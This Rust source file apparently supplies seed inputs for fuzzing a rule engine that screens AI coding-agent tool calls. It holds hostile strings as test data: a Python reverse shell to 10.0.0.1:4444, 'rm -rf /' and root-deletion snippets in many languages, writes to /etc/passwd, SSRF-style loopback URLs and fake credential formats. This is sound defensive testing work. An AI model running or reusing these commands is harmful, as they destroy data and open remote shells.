// SPDX-License-Identifier: Apache-2.0 OR MIT

//! Seed texts: the tuning corpus, the rules and their examples, and a few texts of each kind.

use std::path::{Path, PathBuf};

use serde_json::Value;

/// The root of the repository.
pub fn repository() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// The commands of the tuning corpus. The held-out corpus is never used.
pub fn commands() -> Vec<String> {
    let text = std::fs::read_to_string(repository().join("tests/corpus/tuning.jsonl")).unwrap_or_default();
    let command =
        |line: &str| Some(serde_json::from_str::<Value>(line).ok()?.get("command")?.as_str()?.to_owned());
    text.lines().filter_map(command).collect()
}

/// The rule files.
pub fn rules() -> Vec<String> {
    let Ok(files) = std::fs::read_dir(repository().join("rules")) else { return Vec::new() };
    let mut paths: Vec<_> = files.filter_map(|file| Some(file.ok()?.path())).collect();
    paths.sort();
    let yaml = paths.iter().filter(|path| path.extension().is_some_and(|kind| kind == "yaml"));
    yaml.filter_map(|path| std::fs::read_to_string(path).ok()).collect()
}

/// The lines of the rule files that may be commands, and each rule as a file of its own.
pub fn examples() -> (Vec<String>, Vec<String>) {
    let (mut lines, mut single) = (Vec::new(), Vec::new());
    for text in rules() {
        let examples = text.lines().filter_map(|line| line.strip_prefix("        - "));
        lines.extend(examples.map(|line| line.trim_matches(['"', '\'']).to_owned()));
        let rules = text.split("\n  - id:").skip(1);
        single.extend(rules.map(|rule| format!("version: 1\nrules:\n  - id:{rule}\n")));
    }
    (lines, single)
}

/// Tool names and arguments of events that were captured from a real client.
pub fn calls() -> Vec<String> {
    let Ok(files) = std::fs::read_dir(repository().join("tests/fixtures/claude-code")) else {
        return Vec::new();
    };
    let mut paths: Vec<_> = files.filter_map(|file| Some(file.ok()?.path())).collect();
    paths.sort();
    let call = |path: &PathBuf| {
        let event: Value = serde_json::from_str(&std::fs::read_to_string(path).ok()?).ok()?;
        Some(format!("{}\n{}", event.get("tool_name")?.as_str()?, event.get("tool_input")?))
    };
    paths.iter().filter_map(call).collect()
}

/// Code in other languages.
pub const CODE: &[&str] = &[
    "import os, shutil\nfor name in os.listdir('/'):\n    shutil.rmtree(os.path.join('/', name))",
    "import subprocess; subprocess.run(['rm', '-rf', f'{home}/x'], shell=False)",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))",
    "open('/etc/passwd', 'w').write(\"\"\"x\"\"\")",
    "const fs = require('fs'); fs.rmSync(`${os.homedir()}/x`, {recursive: true}); // c",
    "require('child_process').execSync('rm -rf ' + dir, {stdio: [0, 1, 2]})",
    "use File::Path; rmtree(\"$ENV{HOME}/x\"); system(q{rm -rf /}); unlink <*.c>; print qx(id);",
    "require 'fileutils'; FileUtils.rm_rf(\"#{Dir.home}/x\"); `id`; %x{id}; IO.popen(%w[rm -rf /])",
    "<?php unlink('/etc/x'); system(\"rm -rf $dir\"); file_put_contents('a', <<<E\nx\nE); ?>",
    "os.execute(\"rm -rf /\"); io.open([[/etc/x]], 'w'):write('x') --[==[ c ]==]",
    "BEGIN { system(\"rm -rf /\"); print \"x\" > \"/etc/x\"; \"id\" | getline y }",
    "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
];

/// Seed texts for addresses.
pub const ADDRESSES: &[&str] = &[
    "https://user:pw@example.com:8443/a/b?c=d#e",
    "http://127.1/",
    "http://0x7f000001:80",
    "http://[::ffff:127.0.0.1]/x",
    "ssh://git@github.com:22/a.git",
    "git@github.com:a/b.git",
    "localhost:8080",
    "http://2130706433/",
    "http://example.com.\\@evil.example/",
    "file:///etc/passwd",
    "//host/x",
    "http://ex%61mple.com",
    "http://xn--e1afmkfd.example",
    "s3://bucket/key",
    "1.2.3.4:99999",
    "http://０x7f.１/",
];

/// Seed texts for conditions.
pub const CONDITIONS: &[&str] = &[
    r#"event.kind == "pre-tool" && event.source.startsWith("claude")"#,
    r#"event.tool.args.command.matches("^rm( |$)") || size(event.tool.args.command) > 10"#,
    r#"["a", "b"].exists(x, x in event.labels) ? true : !has(event.cwd)"#,
    r#"event.tool.args.map(k, k + k).filter(x, x != "y").size() < 3"#,
    r#"{"a": 1, "b": [1, 2.5, -3u, b"x", null]}["b"][0] == 1"#,
    r#"timestamp("2026-01-01T00:00:00Z") < event.ts && duration("1h") > duration("1s")"#,
];

/// Texts that look like secrets; they are assembled here, so that no file contains one.
pub fn secrets() -> Vec<String> {
    let body = "0123456789abcdefghijABCDEFGHIJ456789";
    let heads = [
        "ghp_",
        "gho_",
        "github_pat_",
        "AKIA",
        "ASIA",
        "sk-",
        "sk-ant-api03-",
        "xoxb-1-2-",
        "glpat-",
        "AIza",
        "npm_",
        "eyJ",
        "SG.",
        "hf_",
        "pypi-",
        "password=",
        "api_key: ",
        "Authorization: Bearer ",
    ];
    let mut texts: Vec<_> = heads.iter().map(|head| format!("token = \"{head}{body}\"\n")).collect();
    let dashes = "-".repeat(5);
    texts.push(format!(
        "{dashes}BEGIN RSA PRIVATE KEY{dashes}\n{}\n{dashes}END RSA PRIVATE KEY{dashes}\n",
        body.repeat(8)
    ));
    texts.push(format!("postgres://ada:{body}@db.example.com/x https://ada:{body}@example.com"));
    texts
}
